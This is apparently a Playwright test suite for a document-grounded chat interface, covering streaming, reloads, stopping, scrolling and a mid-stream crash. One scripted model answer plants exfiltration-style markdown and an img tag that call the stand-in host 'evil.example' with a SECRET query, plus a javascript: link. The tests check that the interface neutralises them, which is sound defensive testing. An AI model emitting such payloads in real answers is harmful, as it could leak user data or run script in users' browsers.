"""Tests answers by a model on a real OpenAI-compatible server: streaming, reload, stop, crash in mid-stream."""

from __future__ import annotations

import asyncio
import re
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

import pytest
from playwright.sync_api import Page, expect

from tests.servers.local import LocalServer, Request, _delta, _send, asks_for_json, chat_stream, judgement
from tests.servers.small_model import NAME, small_model

pytestmark = pytest.mark.interface

READY = 90_000
PATIENCE = 300_000
"""A long timeout: a model on one thread of a slow machine takes minutes for an answer."""
EVIL = "http://evil.example/x.png?q=SECRET"
WORDS = [f"word{number} " for number in range(200)]


@dataclass
class Scripted:
    """A model whose behaviour is chosen by the question's first word; ``go_on`` lets a waiting stream finish."""

    url: str = ""
    go_on: threading.Event = field(default_factory=threading.Event)

    def respond(self, request: Request):
        if asks_for_json(request):
            return judgement()
        question = request.body["messages"][-1]["content"]
        if question.startswith("slow"):
            return self._slow
        if question.startswith("dies"):
            return chat_stream("Half of an answer", " that breaks", ending="cut")
        return chat_stream(
            "In Israel ILS 560 a night [1], and a claim about nothing [999].\n\n",
            f"![x]({EVIL}) [the form]({EVIL}) <img src={EVIL}> [c](javascript:alert(1))",
        )

    async def _slow(self, writer: asyncio.StreamWriter) -> None:
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nTransfer-Encoding: chunked\r\n\r\n")
        for word in WORDS:
            await _send(writer, _delta({"content": word}), "done")
            await asyncio.sleep(0.01)
        await asyncio.to_thread(self.go_on.wait, 60)
        await _send(writer, _delta({"content": "the end"}), "done")
        await _send(writer, _delta({}, "stop"), "done")
        await _send(writer, "[DONE]", "done")
        writer.write(b"0\r\n\r\n")
        await writer.drain()


@pytest.fixture(scope="module")
def scripted() -> Iterator[Scripted]:
    model = Scripted()
    with LocalServer(responder=model.respond) as server:
        model.url = server.url + "/v1"
        yield model


@pytest.fixture(scope="module")
def served(serve, scripted: Scripted):
    return serve(
        PALIMPSEST_DENSE_ENABLED="false",
        PALIMPSEST_MODEL="openai:scripted",
        OPENAI_BASE_URL=scripted.url,
        OPENAI_API_KEY="none",
    )


def ask(page: Page, question: str) -> None:
    page.locator(".composer textarea").fill(question)
    page.keyboard.press("Enter")


def with_samples(page: Page) -> Page:
    page.locator("[role=tab][data-tab=library]").click()
    rows = page.locator(".pal-library .rows .row:not(.head)")
    empty = page.locator(".pal-library .empty button")
    expect(rows.first.or_(empty)).to_be_visible()
    if empty.is_visible():
        empty.click()
    expect(rows).to_have_count(6, timeout=READY)
    page.locator("[role=tab][data-tab=chat]").click()
    return page


def test_a_written_answer_cites_and_loses_what_it_invented(served, opened: Callable[..., Page], shoot) -> None:
    page = with_samples(opened(served.url))
    ask(page, "What is the limit for a hotel night in Israel under the 2025 travel policy?")
    answer = page.locator(".answer:not(.live)").last
    expect(answer).to_contain_text("ILS 560 a night")
    expect(answer.locator(".cite")).to_have_count(1)
    expect(answer.locator(".notice", has_text="without a matching source")).to_contain_text("[999]")
    expect(answer.locator("footer .spent")).to_have_text(re.compile(r"^\d+ tokens$"))
    expect(answer.locator("img")).to_have_count(0)
    expect(answer.locator("a[href*=evil], a[href^=javascript]")).to_have_count(0)
    expect(answer.locator(".body code", has_text=EVIL)).to_have_count(3)
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    answer.locator("[data-copy]").click()
    expect(page.locator(".toast")).to_be_visible()
    assert f"the form (`{EVIL}`)" in page.evaluate("navigator.clipboard.readText()")
    answer.locator(".cite").click()
    expect(page.locator(".dock .evidence mark", has_text="ILS 560")).to_be_visible()
    shoot(page, "chat-written")


def test_a_reload_in_the_middle_shows_the_same_run_going_on(
    served, scripted: Scripted, opened: Callable[..., Page]
) -> None:
    scripted.go_on.clear()
    page = with_samples(opened(served.url))
    ask(page, "slow answer please, about the 2025 travel policy")
    expect(page.locator(".answer.live .body")).to_contain_text("word50")
    page.reload()
    expect(page.locator(".answer.live .body")).to_contain_text("word0 word1")
    expect(page.locator(".answer.live .body")).to_contain_text("word199")
    expect(page.locator(".composer")).to_have_class(re.compile("running"))
    scripted.go_on.set()
    expect(page.locator(".answer:not(.live)")).to_contain_text("the end")
    expect(page.locator(".composer")).not_to_have_class(re.compile("running"))


def test_stop_keeps_what_was_written(served, scripted: Scripted, opened: Callable[..., Page]) -> None:
    scripted.go_on.clear()
    page = with_samples(opened(served.url))
    ask(page, "slow answer please, about the 2025 travel policy")
    expect(page.locator(".answer.live .body")).to_contain_text("word199")
    page.locator(".composer .send").click()
    answer = page.locator(".answer:not(.live)")
    expect(answer).to_contain_text("word199")
    expect(answer).to_contain_text("Stopped.")


def test_scrolling_up_is_respected_while_the_answer_grows(
    served, scripted: Scripted, opened: Callable[..., Page]
) -> None:
    scripted.go_on.clear()
    page = with_samples(opened(served.url, height=420))
    ask(page, "slow answer please, about the 2025 travel policy")
    expect(page.locator(".answer.live .body")).to_contain_text("word30")
    page.locator(".pal-chat .scroll").evaluate(
        "node => { node.scrollTop = 0; node.dispatchEvent(new Event('scroll')); }"
    )
    expect(page.locator(".answer.live .body")).to_contain_text("word199")
    assert page.locator(".pal-chat .scroll").evaluate("node => node.scrollTop") == 0
    scripted.go_on.set()
    expect(page.locator(".answer:not(.live)")).to_contain_text("the end")


def test_what_is_being_read_stays_where_it_is(served, scripted: Scripted, opened: Callable[..., Page]) -> None:
    scripted.go_on.clear()
    page = with_samples(opened(served.url, height=1400))
    ask(page, "slow answer please, about the 2025 travel policy")
    expect(page.locator(".answer.live .body")).to_contain_text("word50")
    first = _below_the_question(page)
    expect(page.locator(".answer.live .body")).to_contain_text("word199")
    grown = _below_the_question(page)
    scripted.go_on.set()
    expect(page.locator(".answer:not(.live)")).to_contain_text("the end")
    assert [grown, _below_the_question(page)] == pytest.approx([first, first], abs=1)


def _below_the_question(page: Page) -> float:
    """Pixels from the end of the question to the beginning of the text."""
    return page.evaluate(
        "() => document.querySelector('.answer .block').getBoundingClientRect().top"
        " - document.querySelector('.question').getBoundingClientRect().bottom"
    )


def test_a_model_that_dies_in_mid_stream_says_so_and_the_thread_goes_on(
    served, opened: Callable[..., Page], shoot
) -> None:
    page = with_samples(opened(served.url))
    ask(page, "dies while answering about the 2025 travel policy")
    answer = page.locator(".answer:not(.live)").last
    expect(answer.locator(".notice", has_text="stopped in the middle")).to_contain_text("passages are quoted instead")
    expect(answer.locator(".quoted, .opening").first).to_be_visible()
    begun = answer.locator(".begun .body")
    expect(begun).to_be_hidden()
    answer.locator(".begun summary").click()
    expect(begun).to_contain_text("Half of an answer that breaks")
    shoot(page, "chat-died")
    ask(page, "What is the limit for a hotel night in Israel under the 2025 travel policy?")
    expect(page.locator(".answer:not(.live)")).to_have_count(2)
    expect(page.locator(".answer:not(.live)").last).to_contain_text("ILS 560 a night")


def test_a_real_small_model_streams_an_answer(serve, opened: Callable[..., Page]) -> None:
    with small_model() as url:
        served = serve(
            PALIMPSEST_DENSE_ENABLED="false",
            PALIMPSEST_MODEL=f"openai:{NAME}",
            OPENAI_BASE_URL=url,
            OPENAI_API_KEY="none",
            PALIMPSEST_MODEL_WINDOW="1024",
            PALIMPSEST_TASKS__RATING="false",
        )
        page = with_samples(opened(served.url))
        page.get_by_role("radio", name="Quick").click()
        ask(page, "What is the limit for a hotel night in Israel under the 2025 travel policy?")
        answer = page.locator(".answer:not(.live)").last
        expect(answer.locator("footer")).to_contain_text(re.compile(r"\d+ tokens"), timeout=PATIENCE)
        expect(answer.locator("footer")).to_contain_text("SmolLM2")
